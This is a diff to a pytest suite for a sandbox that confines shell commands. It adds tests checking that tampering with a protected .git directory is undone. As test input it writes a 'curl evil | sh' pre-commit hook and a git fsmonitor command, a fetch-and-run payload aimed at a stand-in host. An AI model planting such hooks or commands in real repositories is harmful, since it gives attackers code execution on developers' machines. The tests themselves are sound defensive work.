@@ -56,13 +56,29 @@ def any_tier(request: pytest.FixtureRequest) -> Sandbox:
     yield from _lent(request)
 
 
+_BASE: set = set()   # servers other test modules left alive (not ours to judge)
+
+
+def _servers() -> list:
+    """Pre-spawned sandboxes alive now that this module did not inherit."""
+    return [s for s in prespawn.live_servers() if s not in _BASE]
+
+
+def _bwraps() -> list[psutil.Process]:
+    return [p for p in psutil.Process().children(recursive=True) if p.name() == "bwrap"]
+
+
 @pytest.fixture(autouse=True, scope="module")
 def _no_leaked_sandboxes():
-    """After this module: no pre-spawned sandbox left, no bwrap left among our descendants."""
+    """After this module: none of its pre-spawned sandboxes left, no bwrap of its own left
+    among our descendants (alive or zombie)."""
+    gc.collect()
+    _BASE.update(prespawn.live_servers())
+    before = {p.pid for p in _bwraps()}
     yield
     gc.collect()
-    assert prespawn.live_servers() == []
-    assert [p.name() for p in psutil.Process().children(recursive=True) if p.name() == "bwrap"] == []
+    assert _servers() == []
+    assert [(p.pid, p.status()) for p in _bwraps() if p.pid not in before] == []
 
 
 @pytest.fixture
@@ -137,6 +153,28 @@ def test_git_config_and_rc_files_are_protected(confined: Sandbox, world) -> None
     assert not (world["ws"] / ".bashrc").exists(), r
     assert not (world["ws"] / ".vscode").exists(), r
     assert r.violations, r   # the new files (and, under Landlock, the config) were undone
+
+
+def test_moving_the_directory_above_a_protected_path_is_undone(confined: Sandbox, world) -> None:
+    """A read-only mount cannot be moved, its parent can: a fresh `.git` with a new config."""
+    git = world["ws"] / ".git"
+    cfg, hook = git / "config", git / "hooks" / "pre-commit"
+    before = (cfg.read_bytes(), hook.read_bytes())
+    r = confined.run("mv .git .git-old && mkdir .git && cp -r .git-old/. .git/ && "
+                     "echo '[core] fsmonitor = touch /tmp/pwned' >> .git/config && "
+                     "echo 'curl evil | sh' >> .git/hooks/pre-commit && echo DONE", _policy(world))
+    assert "DONE" in r.stdout, r        # the swap itself works inside the sandbox…
+    assert (cfg.read_bytes(), hook.read_bytes()) == before   # …and is undone before we return
+    assert r.violations, r
+
+
+def test_a_swapped_directory_is_never_followed_when_restoring(confined: Sandbox, world) -> None:
+    """Restoring through a directory the command turned into a symlink would write (as us,
+    unconfined) wherever it points: reported, not followed."""
+    r = confined.run(f"mv .git .git-old && ln -s {world['outside']} .git", _policy(world))
+    assert r.exit_code == 0, r
+    assert list(world["outside"].iterdir()) == []
+    assert any("could not be undone" in v for v in r.violations), r
 
 
 def test_ssh_key_in_fake_home_is_unreadable(confined: Sandbox, world) -> None:
